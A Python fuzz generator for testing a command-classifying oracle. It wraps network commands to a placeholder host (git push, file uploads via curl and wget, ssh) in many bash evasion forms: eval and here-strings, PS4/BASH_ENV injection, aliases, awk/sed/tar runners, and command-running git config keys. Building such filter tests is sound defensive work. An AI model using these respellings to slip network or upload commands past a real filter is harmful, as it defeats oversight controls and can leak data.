"""Line generator for the oracle's fuzz property: a network command, wrapped, quoted, aliased,
substituted and respelled the ways bash and the tools accept, a few layers deep.  Each line
comes with the names of the mutations that made it (a finding's kind)."""
import random

PAYLOADS = [
    "git push", "git push origin main", "git fetch", "git pull --ff-only",
    "git clone https://x.test/r.git", "git ls-remote origin", "git send-pack x main",
    "curl -d x https://x.test", "curl -X POST https://x.test", "curl --data-binary @f https://x.test",
    "curl -sSf https://x.test", "curl -F a=b https://x.test", "curl -T f https://x.test",
    "curl --json '{}' https://x.test", "wget --post-data=x https://x.test", "wget -q https://x.test",
    "wget --method=PUT https://x.test", "http POST x.test a=b", "http x.test", "xh x.test a=b",
    "gh api -X POST repos/o/r", "gh api user", "gh pr create", "ssh h", "scp f h:", "rsync f h:/x",
    "dig x.test", "host x.test", "nslookup x.test",
]


def sq(s):
    """s single-quoted for bash."""
    return "'" + s.replace("'", "'\\''") + "'"


def dq(s):
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace(
        "`", "\\`") + '"'


def head(cmd):
    w = cmd.split(" ", 1)
    return w[0], (w[1] if len(w) > 1 else "")


def simple(cmd):
    """Whether cmd is one simple command we can respell word by word."""
    return not any(c in cmd for c in ";|&<>()$`\n'\"\\{}")


# ---- mutations: (name, function(rng, cmd) -> cmd or None) -----------------------------------

def m_quote_word(r, c):
    if not simple(c):
        return None
    w, rest = head(c)
    if len(w) < 2:
        return None
    k = r.randrange(1, len(w))
    forms = [f"'{w[:k]}'{w[k:]}", f"{w[:k]}\\{w[k:]}", f'"{w}"',
             "$'" + "".join(f"\\x{ord(ch):02x}" for ch in w) + "'", f"{w[:k]}''{w[k:]}",
             f"$'{w}'", f'$"{w}"', f"{w[:k]}\\\n{w[k:]}"]
    return f"{r.choice(forms)} {rest}".rstrip()


def m_abspath(r, c):
    if not simple(c):
        return None
    w, rest = head(c)
    if w in ("git",):
        sub, _, more = rest.partition(" ")
        forms = ["/usr/bin/git", "/bin/git", "/usr/lib/git-core/git", "./../../usr/bin/git"]
        if sub and not sub.startswith("-"):
            forms += [f"/usr/lib/git-core/git-{sub}", f"git-{sub}"]
            p = r.choice(forms)
            if p.endswith(sub):
                return f"{p} {more}".rstrip()
            return f"{p} {rest}".rstrip()
        return f"{r.choice(forms)} {rest}".rstrip()
    return f"{r.choice(['/usr/bin/', '/bin/', '//usr//bin/'])}{w} {rest}".rstrip()


WRAPPERS = [
    "env", "env -i", "env -u HOME", "env X=1", "env --unset=HOME", "env --uns HOME", "env -- ",
    "nice", "nice -n 5", "nice -5", "nice --adj=3", "nice --adjustment 3", "timeout 5",
    "timeout -s KILL 5", "timeout --sig KILL 5", "timeout --signal=KILL 5", "timeout -k 1 5",
    "timeout --kill-a=1 5", "timeout --preserve 5", "timeout -v 5", "nohup", "setsid", "setsid -w",
    "setsid --wait", "stdbuf -o0", "stdbuf --output=0", "stdbuf --out=L", "stdbuf -oL -eL",
    "command", "command --", "time", "time -p", "flock /tmp/l", "flock -w 1 /tmp/l",
    "flock --time=1 /tmp/l", "taskset 1", "taskset -c 0", "taskset --cpu-list 0", "chrt -o 0",
    "chrt --other 0", "prlimit --nofile=100", "prlimit -n100", "prlimit --nof=100", "unshare",
    "unshare -r", "unshare --map-root-user", "ssh-agent", "fakeroot", "setpriv",
    "setpriv --no-new-privs", "setpriv --no-new", "ionice -c3", "ionice --class 3", "xargs",
    "xargs -r", "xargs -0", "xargs -n1", "builtin command", "exec", "strace -f -o /dev/null",
    "busybox", "sudo", "sudo -u nobody", "doas", "script -qc", "nohup nice", "env nice -n1",
]


def m_wrapper(r, c):
    w = r.choice(WRAPPERS)
    if w.startswith("xargs"):
        return f"echo | {w} {c}" if simple(c) else None
    if w == "script -qc":
        return f"script -qc {sq(c)} /dev/null"
    if w == "busybox":
        return f"busybox {c}" if simple(c) else None
    if w == "exec":
        return f"exec {c}" if simple(c) else None
    if not simple(c):
        return None
    return f"{w} {c}"


def m_shell(r, c):
    forms = [
        f"bash -c {sq(c)}", f"sh -c {sq(c)}", f"bash -xc {sq(c)}", f"bash -ec {sq(c)}",
        f"bash -c {sq(c)} x", f"bash -o errexit -c {sq(c)}", f"bash --norc -c {sq(c)}",
        f"bash -O extglob -c {sq(c)}", f"dash -c {sq(c)}", f"eval {sq(c)}", f"eval {dq(c)}",
        f"bash <<< {sq(c)}", f"bash <<'EOF'\n{c}\nEOF", f"bash -s <<< {sq(c)}",
        f"bash /dev/stdin <<< {sq(c)}", f"bash - <<< {sq(c)}", f"echo {sq(c)} | bash",
        f"echo {sq(c)} | sh", f"printf '%s\\n' {sq(c)} | bash -s", f"bash <(echo {sq(c)})",
        f"source <(echo {sq(c)})", f". <(echo {sq(c)})", f"source /dev/stdin <<< {sq(c)}",
        f"bash 3<<<{sq(c)} /dev/fd/3", f"exec 3<<<{sq(c)}; bash <&3",
        f"bash 3<<<{sq(c)} 0<&3", f"exec <<< {sq(c)}; bash", f"bash -c bash <<< {sq(c)}",
        f"cat <<'EOF' | bash\n{c}\nEOF", f"bash -c \"$(echo {sq(c)})\"", f"sh -s < <(echo {sq(c)})",
        f"{{ echo {sq(c)}; }} | bash", f"bash -i -c {sq(c)}", f"bash --posix -c {sq(c)}",
    ]
    return r.choice(forms)


def m_subst(r, c):
    forms = [f"echo $({c})", f"echo `{c}`", f"x=$({c})", f"cat <({c})", f": \"$({c})\"",
             f"echo ${{x:-$({c})}}", f"echo $(( $({c}) ))", f"[[ $({c}) ]]",
             f"case $({c}) in *) ;; esac", f"for i in $({c}); do :; done", f"f() {{ {c}; }}; f",
             f"({c})", f"{{ {c}; }}", f"{c} &", f"{c} | cat", f"! {c}", f"if {c}; then :; fi",
             f"while {c}; do break; done", f"trap {sq(c)} EXIT", f"true && {c}",
             f"false || {c}", f"coproc {c}", f"time {c}", f"{c} >/dev/null 2>&1",
             f"x=1 {c}", f"echo >(cat) | {c}", f"echo {sq('x')} > >({c})"]
    return r.choice(forms)


def m_latent(r, c):
    v = sq(f"a[$({c})]")
    forms = [f"x={v}; (( x ))", f"x={v}; let x", f"x={v}; echo $((x))", f"x={v}; [[ x -eq 0 ]]",
             f"x={v}; echo ${{!x}}", f"declare -n r={v}; echo $r", f"printf -v {v} x",
             f"read x <<< {v}; (( x ))", f"x={v}; a[x]=1", f"x={v}; echo ${{a[x]}}",
             f"x={v}; [[ -v $x ]]", f"x={v}; declare -i y=x", f"unset {v}",
             f"x={v}; echo ${{y:x}}", f"x={v}; test -v \"$x\"", f"mapfile -C {sq(c)} -c 1 <<< x",
             f"PS4={sq('$(' + c + ')')}; set -x; :", f"x={sq('$(' + c + ')')}; echo ${{x@P}}",
             f"BASH_ENV=<(echo {sq(c)}) bash -c :", f"ENV=<(echo {sq(c)}) sh -i -c :",
             f"PROMPT_COMMAND={sq(c)} bash -i -c :"]
    return r.choice(forms)


def m_alias(r, c):
    forms = [f"shopt -s expand_aliases\nalias g={sq(c)}\ng",
             f"shopt -s expand_aliases extglob\nalias g={sq(c)}\ng",
             f"shopt -qs expand_aliases\nalias g={sq(c)}\ng",
             f"set -o posix\nalias g={sq(c)}\ng", f"bash --posix -c {sq('alias g=' + sq(c) + chr(10) + 'g')}",
             f"bash -O expand_aliases -c {sq('alias g=' + sq(c) + chr(10) + 'g')}",
             f"POSIXLY_CORRECT=1 bash -c {sq('alias g=' + sq(c) + chr(10) + 'g')}",
             f"sh -c {sq('alias g=' + sq(c) + chr(10) + 'g')}",
             f"BASH_ALIASES[g]={sq(c)}; shopt -s expand_aliases\ng",
             f"shopt -s expand_aliases; BASH_ALIASES[g]={sq(c)}\ng",
             f"alias g={sq(c)}; shopt -s expand_aliases\ng",
             f"bash -i -c {sq('alias g=' + sq(c) + chr(10) + 'g')}"]
    return r.choice(forms)


def m_hash(r, c):
    if not simple(c):
        return None
    w, rest = head(c)
    forms = [f"hash -p /usr/bin/{w} z; z {rest}", f"BASH_CMDS[z]=/usr/bin/{w}; z {rest}",
             f"hash -p /usr/bin/{w} ls; ls {rest}"]
    return r.choice(forms)


def m_runner(r, c):
    if not simple(c):
        return None
    w, rest = head(c)
    forms = [f"awk 'BEGIN{{system(\"{c}\")}}'", f"awk 'BEGIN{{print \"{c}\" | \"sh\"}}'",
             f"sed -n '1e {c}' <<< x", f"echo x | sed 's/x/{c}/e'", f"split --filter={sq(c)} <<< x",
             f"tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec={sq(c)} /etc/hostname",
             f"/lib64/ld-linux-x86-64.so.2 /usr/bin/{w} {rest}",
             f"cp /usr/bin/{w} /tmp/z; /tmp/z {rest}", f"ln -s /usr/bin/{w} /tmp/z; /tmp/z {rest}",
             f"echo {sq(c)} | xargs -I{{}} sh -c {{}}", f"echo {w} | xargs -I% % {rest}",
             f"echo {sq(rest)} | xargs {w}", f"find /etc/hostname -exec {c} \\;",
             f"find /etc/hostname -exec sh -c {sq(c)} \\;",
             f"echo {sq(c)} | xargs -0 bash -c", f"xargs -a <(echo {w}) -I% % {rest}"]
    return r.choice(forms)


def m_git_config(r, c):
    forms = [f"git -c core.editor={sq(c)} commit", f"GIT_EDITOR={sq(c)} git commit",
             f"git -c alias.x={sq('!' + c)} x", f"git -c core.sshCommand={sq(c)} fetch",
             f"git -c diff.external={sq(c)} diff", f"git -c credential.helper={sq('!' + c)} fetch",
             f"git -c core.fsmonitor={sq(c)} status", f"git -c sequence.editor={sq(c)} rebase -i",
             f"git fetch --upload-pack={sq(c)} origin", f"git clone -u {sq(c)} x y",
             f"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0={sq('!' + c)} git x",
             f"export GIT_SSH_COMMAND={sq(c)}; git fetch", f"GIT_PAGER={sq(c)} git log",
             f"git -c core.pager={sq(c)} log", f"git -c pager.log={sq(c)} log",
             f"git --config-env=core.editor=E commit", f"git -c Core.Editor={sq(c)} commit",
             f"git ls-remote --upload-p={sq(c)} x", f"git push --receive-pack={sq(c)} x",
             f"git -c filter.a.clean={sq(c)} add x", f"git -c gpg.program={sq(c)} log"]
    f = r.choice(forms)
    if "--config-env" in f:
        f = f"E={sq(c)} " + f
    return f


def m_git_alias(r, c):
    forms = ["git -c alias.x=push x", "git -c alias.x='push origin' x",
             "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=push git x",
             "git remote add --fe o https://x.test/r", "git remote add --fetch o https://x.test/r",
             "git -c alias.X=push x", "git -c ALIAS.x=push x",
             "git -c protocol.ext.allow=always clone 'ext::sh -c git% push' d"]
    return r.choice(forms)


def m_options(r, c):
    forms = ["curl --data-bin x https://x.test", "curl --data-r x https://x.test",
             "curl --data-binary{,} x https://x.test", "curl --data-urle x https://x.test",
             "curl -d@f https://x.test", "curl -sd x https://x.test", "curl -XPOST https://x.test",
             "curl --req POST https://x.test", "curl --form-s a=b https://x.test",
             "curl --upload-f f https://x.test", "curl --json x https://x.test",
             "curl --js x https://x.test", ": > --data-binary; curl --data-bin* x https://x.test",
             "curl -{d,s} x https://x.test", "curl --d{ata,} x https://x.test",
             "wget --post-d=x https://x.test", "wget --post-f=f https://x.test",
             "wget --body-d=x --meth=PUT https://x.test", "wget -e post_data=x https://x.test",
             "wget --execute=post_data=x https://x.test", "wget -epost_data=x https://x.test",
             "wget --meth PUT https://x.test", "wget --post-data{=x,} https://x.test",
             "curl -K- https://x.test <<< 'data = x'", "curl -: -d x https://x.test",
             "http --ignore-stdin POST x.test", "http x.test a=b", "echo x | http x.test",
             "gh api --method POST x", "gh api -XPOST x", "gh api -fa=b x", "gh api --field a=b x"]
    return r.choice(forms)


def m_join(r, c):
    """A backslash-newline inside the line: bash removes it before it reads a token, so it
    may join two characters into one (`$\\<newline>'...'` is $'...').  Half the time right
    after a `$`, `(`, `{`, `!` or `@`, otherwise at any place."""
    spots = [i + 1 for i, ch in enumerate(c) if ch in "${(!@"]
    if spots and r.random() < 0.5:
        i = r.choice(spots)
    else:
        i = r.randrange(len(c) + 1)
    return c[:i] + "\\\n" + c[i:]


MUTATIONS = [("quote", m_quote_word, 3), ("abspath", m_abspath, 2), ("wrapper", m_wrapper, 5),
             ("shell", m_shell, 4), ("subst", m_subst, 4), ("latent", m_latent, 2),
             ("alias", m_alias, 2), ("hash", m_hash, 1), ("runner", m_runner, 3),
             ("gitconfig", m_git_config, 2), ("gitalias", m_git_alias, 1),
             ("options", m_options, 2), ("join", m_join, 2)]


def line(r):
    """(line, kind): a payload under one to three mutations."""
    c = r.choice(PAYLOADS)
    kinds = []
    for _ in range(r.choice([1, 1, 1, 2, 2, 3])):
        for _ in range(10):
            name, fn, _w = r.choices(MUTATIONS, weights=[m[2] for m in MUTATIONS])[0]
            n = fn(r, c)
            if n is not None:
                c = n
                kinds.append(name)
                break
    return c, "+".join(kinds)
